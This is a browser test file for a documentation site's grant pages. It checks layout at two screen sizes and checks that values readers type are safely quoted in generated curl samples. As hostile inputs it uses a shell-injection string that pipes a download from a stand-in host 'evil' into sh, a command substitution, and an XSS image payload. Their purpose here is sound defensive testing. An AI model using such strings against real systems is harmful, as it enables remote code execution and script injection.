import { describe, expect } from 'vitest'
import { grantPages } from '../../generator/grant-pages.ts'
import { siteLink } from '../../generator/sidebar.ts'
import { useSite, type Visitor, visit } from './visitor.ts'

useSite()

const paths = Object.values(grantPages).map(siteLink)
const hostile = `'; curl evil|sh #<img src=x onerror=alert(1)>`

/** Returns the lines of the first code block that the window shows without scrolling. */
async function visibleLines({ page }: Visitor): Promise<number> {
  return page
    .locator('main .vp-code-group .blocks > .active .line')
    .evaluateAll((lines) => lines.filter((line) => line.getBoundingClientRect().bottom < innerHeight).length)
}

describe('the first request of a grant page', () => {
  visit(
    'is visible without scrolling at 1440 × 900, beside the text and with its response',
    async (visitor) => {
      for (const path of paths) {
        await visitor.page.goto(visitor.url + path)
        const groups = visitor.page.locator('main .grant-request .vp-code-group')
        expect((await groups.nth(0).boundingBox())?.y, path).toBeLessThan(200)
        const response = await groups.nth(1).boundingBox()
        expect((response?.y ?? 900) + (response?.height ?? 0), path).toBeLessThan(900)
        expect(response?.x, path).toBeGreaterThan(720)
      }
    },
    { viewport: { width: 1440, height: 900 } },
  )

  visit(
    'is visible within one screen at 390 × 844',
    async (visitor) => {
      for (const path of paths) {
        await visitor.page.goto(visitor.url + path)
        expect(await visibleLines(visitor), path).toBeGreaterThanOrEqual(3)
      }
    },
    { viewport: { width: 390, height: 844 } },
  )

  visit(
    'never breaks inside a word',
    async ({ page, url }) => {
      for (const path of paths) {
        await page.goto(url + path)
        const broken = await page
          .locator('main .active code .word')
          .evaluateAll((words) => words.flatMap((word) => (word.getClientRects().length > 1 ? [word.textContent] : [])))
        expect(broken, path).toEqual([])
      }
    },
    { viewport: { width: 390, height: 844 } },
  )
})

describe("the reader's values", () => {
  visit('fill every sample, quoted and as text, and are in no address', async ({ page, url, problems }) => {
    await page.goto(`${url}/grants/client-credentials`)
    await page.getByText('Your values').click()
    await page.getByRole('textbox', { name: 'Customer' }).fill(hostile)
    await page.getByRole('textbox', { name: 'Client id' }).fill('my-own-product')
    const curl = page.locator('.grant-request .blocks > .active code').first()
    await expect.poll(() => curl.textContent()).toContain('-u my-own-product:"$PARTICLE_CLIENT_SECRET"')
    const variant = page.locator('#client-customer .language-sh code').first()
    expect(await variant.textContent()).not.toContain(hostile) // it has spaces, which no customer has
    await page.getByText('Not used: it must be a name without spaces.').waitFor()
    await page.getByRole('textbox', { name: 'Customer' }).fill(`'$(evil)'<img/src=x>`)
    await page.locator('#client-customer[open]').waitFor()
    await expect.poll(() => variant.textContent()).toContain(`customer=''\\''$(evil)'\\''<img/src=x>'`)
    expect(await page.locator('main img').count()).toBe(0)
    expect(page.url()).toBe(`${url}/grants/client-credentials`)
    expect(problems).toEqual([])
  })

  visit('include the mfa_token of a pasted 403, and nothing that does not look like one', async (visitor) => {
    const { page, url } = visitor
    await page.goto(`${url}/grants/mfa-otp`)
    await page.getByText('Paste your 403').click()
    const box = page.getByLabel('The response with mfa_required')
    const curl = page.locator('.grant-request .blocks > .active code').first()
    await box.fill(JSON.stringify({ error: 'mfa_required', mfa_token: hostile }))
    await page.getByText('The mfa_token in it has an unexpected form').waitFor()
    expect(await curl.textContent()).toContain('-d mfa_token=6e16f915')
    await box.fill('{"mfa_token":"aaaabbbb-cccc-dddd-eeee-ffff00001111","error":"mfa_required"}')
    await expect.poll(() => curl.textContent()).toContain('-d mfa_token=aaaabbbb-cccc-dddd-eeee-ffff00001111')
  })
})

visit('a link to a question opens its answer', async ({ page, url }) => {
  await page.goto(`${url}/grants/refresh-token#refresh_token_rejected`)
  await page.getByText('Refreshing is documented only for product tokens.').waitFor()
})

visit('a marker names the sources of its fact', async ({ page, url }) => {
  await page.goto(`${url}/grants/mfa-otp`)
  const marker = page.locator('main .from').first()
  expect(await marker.getAttribute('aria-label')).toMatch(/^Known from: \w/)
  await marker.click()
  await page.waitForURL(/#source-\w+$/)
})
